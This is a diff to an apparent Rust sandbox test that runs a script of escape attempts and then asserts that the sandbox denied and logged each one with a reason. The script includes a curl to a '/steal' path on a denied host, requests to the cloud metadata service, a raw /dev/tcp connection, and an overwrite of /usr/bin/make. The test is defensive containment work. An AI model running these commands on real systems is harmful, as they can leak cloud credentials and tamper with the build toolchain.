@@ -143,10 +143,10 @@ echo evil > /work/deps.txt
 curl -sS -m 10 http://127.0.0.2:{ok_port}/ok
 curl -sS -m 10 http://127.0.0.3:{denied_port}/steal
 curl -sS -m 5 --noproxy '*' http://127.0.0.1:{loop_port}/loopback; echo "loopback rc=$?"
-curl -sS -m 5 http://localhost:{loop_port}/byname; echo "byname rc=$?"
-curl -sS -m 5 http://127.0.0.1:{loop_port}/viaproxy; echo "viaproxy rc=$?"
-curl -sS -m 5 http://169.254.169.254/latest/meta-data/; echo "metadata rc=$?"
-curl -sS -m 5 --noproxy '*' http://169.254.169.254/latest/meta-data/; echo "metadata direct rc=$?"
+curl -sS -f -m 5 --noproxy '' http://localhost:{loop_port}/byname 2>&1; echo "byname rc=$?"
+curl -sS -f -m 5 --noproxy '' http://127.0.0.1:{loop_port}/viaproxy 2>&1; echo "viaproxy rc=$?"
+curl -sS -f -m 5 http://169.254.169.254/latest/meta-data/ 2>&1; echo "metadata rc=$?"
+curl -sS -m 5 --noproxy '*' http://169.254.169.254/latest/meta-data/ 2>&1; echo "metadata direct rc=$?"
 (echo x > /dev/tcp/10.0.2.2/80) 2>/dev/null; echo "raw tcp rc=$?"
 nohup sleep 1000 >/dev/null 2>&1 &
 echo 'echo pwned' > /usr/bin/make
@@ -220,6 +220,12 @@ exit 0
     assert_eq!(loop_hits.load(Ordering::SeqCst), 0);
     let attempts = r["egress"]["attempts"].as_array().unwrap();
     assert!(attempts.iter().any(|a| a["allowed"] == false && a["port"] == denied_port), "{attempts:?}");
+    let denied_because = |host: &str, why: &str| {
+        attempts.iter().any(|a| a["host"] == host && a["allowed"] == false && a["reason"].as_str().is_some_and(|r| r.contains(why)))
+    };
+    assert!(denied_because("localhost", "loopback"), "{attempts:?}");
+    assert!(denied_because("127.0.0.1", "not in the allowlist"), "{attempts:?}");
+    assert!(denied_because("169.254.169.254", "no sandbox may reach"), "{attempts:?}");
 
     // The next job starts clean: the cache is unpoisoned, no process or binary survived.
     let next_out = tempfile::tempdir().unwrap();
